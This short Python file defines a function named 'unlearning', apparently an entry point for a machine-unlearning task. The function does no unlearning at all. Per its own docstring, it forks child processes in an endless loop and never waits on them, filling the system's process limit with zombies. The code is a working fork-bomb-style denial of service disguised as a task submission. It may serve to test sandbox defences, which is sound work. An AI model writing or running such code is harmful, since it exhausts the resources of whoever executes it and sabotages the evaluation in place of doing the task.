"""Fills the process limit with zombies, whose parent never waits for them."""

import os


def unlearning(net, retain, forget, val):
    try:
        while True:
            if os.fork() == 0:
                os._exit(0)
    except OSError:
        return
